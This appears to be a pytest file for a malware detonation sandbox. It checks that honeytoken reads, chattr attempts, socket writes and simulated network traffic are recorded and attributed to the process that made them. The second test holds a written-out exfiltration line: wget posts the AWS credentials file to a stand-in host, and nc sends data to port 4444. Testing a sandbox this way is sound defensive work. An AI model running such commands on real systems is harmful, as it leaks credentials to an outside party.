"""Real runs: planted honeytokens are read and exfiltrated, a file is chattr'ed, a socket is
written to; the simulated internet's events are attributed to the process that made them."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from detonate.model.events import (
    FileAttributesChanged,
    FileOpenedForRead,
    FileOpenedForWrite,
    NetworkConnected,
    NetworkSent,
)
from detonate.model.filesystem import Rootfs
from detonate.model.netevents import DnsQueried, HttpRequested
from detonate.model.runtime import EndReason
from detonate.model.watched_reads import read_kind

from . import scenarios
from .busybox_image import FAST, PROGRESS, image_running
from .test_containment import assert_nothing_left

pytestmark = pytest.mark.sandbox


def test_honeytoken_reads_chattr_and_socket_writes_are_events(
    busybox_rootfs: Rootfs, tmp_path: Path
) -> None:
    from detonate.sandbox.run import detonate

    image = image_running("/bin/sh", "-c", scenarios.CREDENTIAL_THEFT)
    result = detonate(image, busybox_rootfs, FAST, tmp_path, PROGRESS)

    assert result.run.ended_by == EndReason.EXITED and result.run.exit_code == 0
    assert result.run.parse_errors == 0 and result.run.lines_lost == 0
    tokens = {t.path: t for t in result.honeytokens}
    assert {"/root/.aws/credentials", "/root/.ssh/id_rsa", "/root/.docker/config.json"} <= set(
        tokens
    )
    markers = [t.marker for t in result.honeytokens if t.marker]
    assert len(markers) == len(set(markers)) == 4
    assert tokens["/root/.aws/credentials"].marker.startswith("AKIADETONATE")

    reads = {e.path: e for e in result.events if isinstance(e, FileOpenedForRead)}
    assert reads["/root/.aws/credentials"].honeytoken == "aws-credentials"
    assert reads["/root/.ssh/id_rsa"].argv == ("cat", "id_rsa")  # relative to the cwd
    kube = "/var/run/secrets/kubernetes.io/serviceaccount/token"
    assert reads[kube].honeytoken == "kube-token" and reads[kube].argv[0] == "tar"
    assert reads["/root/.docker/config.json"].succeeded
    # tar's reads of /etc/passwd, /etc/group are no events; read opens of files the run wrote
    # are (data provenance follows them), but not of the devices it redirected to; nor are
    # other reads but the watched ones (netstat's /proc/net/tcp: model/watched_reads.py)
    written = {e.path for e in result.events if isinstance(e, FileOpenedForWrite) and e.succeeded}
    watched = {path for path in reads if read_kind(path)}
    assert set(reads) <= set(tokens) | written | watched
    assert "/etc/passwd" not in reads and "/dev/null" not in reads

    # Planted bait is setup, not a change; the loot the sample packed up holds the kube marker.
    assert not any(f.path in tokens for f in result.files)
    (loot,) = [f for f in result.files if f.path == "/tmp/loot.tar"]
    assert result.artifacts_dir is not None
    assert tokens[kube].marker.encode() in (result.artifacts_dir / loot.artifact).read_bytes()

    (chattr,) = [e for e in result.events if isinstance(e, FileAttributesChanged)]
    assert chattr.path == "/tmp/locked" and chattr.flags == "FS_IMMUTABLE_FL"
    assert not chattr.succeeded and chattr.error == "EPERM"  # no CAP_LINUX_IMMUTABLE

    sends = [e for e in result.events if isinstance(e, NetworkSent) and e.call == "write"]
    (send,) = [e for e in sends if e.argv[:1] == ("nc",)]
    assert (send.address, send.port, send.protocol) == ("127.0.0.1", 8080, "TCP")
    assert 0 < send.bytes < 300  # the docker config, written once
    assert not [e for e in sends if e.argv[:1] == ("tar",)]  # file writes are not sends

    output = (result.artifacts_dir.parent / "output.log").read_bytes()
    assert b"kubernetes.default.svc" in output  # KUBERNETES_SERVICE_HOST
    assert_nothing_left(result)


def test_simulated_traffic_is_attributed_to_the_process_that_made_it(
    busybox_rootfs: Rootfs, tmp_path: Path
) -> None:
    from detonate.sandbox.netsim import Simulator
    from detonate.sandbox.run import detonate

    script = (
        'wget -q -O /dev/null --post-data "$(cat /root/.aws/credentials)" http://exfil.test/up; '
        "echo hi | nc 192.0.2.10 4444"
    )
    options = dataclasses.replace(FAST, idle_seconds=3)
    with Simulator(tmp_path / "net") as network:
        result = detonate(
            image_running("/bin/sh", "-c", script),
            busybox_rootfs,
            options,
            tmp_path,
            PROGRESS,
            network,
        )

    (http,) = [e for e in result.events if isinstance(e, HttpRequested)]
    assert http.argv[:1] == ("wget",) and http.pid > 0 and http.ppid > 0
    aws = next(t for t in result.honeytokens if t.kind == "aws-credentials")
    assert aws.marker in http.body_preview  # the token left the container
    dns = [e for e in result.events if isinstance(e, DnsQueried)]
    assert dns and all(e.pid == http.pid for e in dns)
    # By 4-tuple: the traced connect knows the source port the simulator saw.
    (connect,) = [
        e for e in result.events if isinstance(e, NetworkConnected) and e.port == http.dst_port
    ]
    assert connect.local_port == http.src_port and connect.pid == http.pid
    sunk = [e for e in result.events if getattr(e, "dst_port", 0) == 4444]
    assert sunk and all(e.argv[:1] == ("nc",) and e.pid != http.pid for e in sunk)
    assert not [e for e in result.events if e.kind != "traffic_measured" and e.pid == 0]
